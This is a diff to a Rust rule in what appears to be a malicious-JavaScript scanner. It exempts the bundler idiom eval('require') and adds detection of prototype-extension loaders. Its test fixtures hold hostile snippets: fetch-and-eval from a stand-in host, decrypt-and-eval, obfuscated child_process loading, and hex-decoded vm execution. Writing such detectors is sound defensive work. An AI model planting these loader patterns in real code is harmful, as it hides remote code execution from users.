@@ -62,7 +62,10 @@ impl Rule for DecodedCodeExecution {
             } else if argument.from_file && !is_require {
                 Some((Severity::Medium, Confidence::Medium, format!("evaluates file contents via `{}`", call.callee)))
             } else if let Some(constant) = &argument.constant {
-                let hides_module = !is_require && !is_timer && (constant.contains("require") || constant.contains("child_process") || constant.contains("process.mainModule"));
+                // `eval("require")` is the bundlers' way to reach Node's own `require`.
+                let literal = file.text.get(call.offset as usize..(call.offset as usize + 16).min(file.text.len())).unwrap_or_default();
+                let bundler_idiom = constant == "require" && (literal.starts_with("eval(\"require\")") || literal.starts_with("eval('require')"));
+                let hides_module = !is_require && !is_timer && !bundler_idiom && (constant.contains("require") || constant.contains("child_process") || constant.contains("process.mainModule"));
                 hides_module.then(|| (Severity::High, Confidence::Medium, format!("`{}` of a constant hides a module load", call.callee)))
             } else {
                 None
@@ -70,6 +73,15 @@ impl Rule for DecodedCodeExecution {
             if let Some((severity, confidence, message)) = graded {
                 out.push(file.finding(&Self::META, severity, confidence, Some(call.offset as usize), message, None));
             }
+        }
+        // Built-in prototypes extended in a file full of `eval`: string-method loaders.
+        let evals = facts.calls.iter().filter(|call| call.callee == "eval").count();
+        if evals >= 3
+            && let Some(assignment) = facts.assignments.iter().find(|assignment| {
+                assignment.target.starts_with("String.prototype.") || assignment.target.starts_with("Array.prototype.")
+            })
+        {
+            out.push(file.finding(&Self::META, Severity::High, Confidence::Medium, Some(assignment.offset as usize), format!("extends `{}` in a file with {evals} `eval` calls", assignment.target), None));
         }
     }
 }
@@ -84,6 +96,8 @@ mod tests {
         let pass = vec![
             "const g = new Function('return this')();".into(),
             "eval('1 + 1');".into(),
+            "const nodeRequire = eval('require'); nodeRequire('fs');".into(),
+            "String.prototype.padStart = function (n) { return this; };".into(),
             "const name = cond ? 'a' : 'b'; require(name);".into(),
             "setTimeout(function () {}, 10);".into(),
         ];
@@ -94,6 +108,7 @@ mod tests {
             "require('https').get('https://h.example/p', (res) => { let body = ''; res.on('data', (d) => { body += d; }); res.on('end', () => eval(body)); });".into(),
             "const d = require('crypto').createDecipheriv('aes-256-cbc', k, iv); const code = d.update(blob, 'hex', 'utf8') + d.final('utf8'); eval(code);".into(),
             "eval('req' + 'uire')('child_process');".into(),
+            "String.prototype.run = function () { eval(this.toString()); }; eval(a); eval(b); 'x'.run();".into(),
             "const vm = require('vm'); vm.runInThisContext(Buffer.from(x, 'hex').toString());".into(),
         ];
         test_rule(DecodedCodeExecution::META.name, pass, fail);
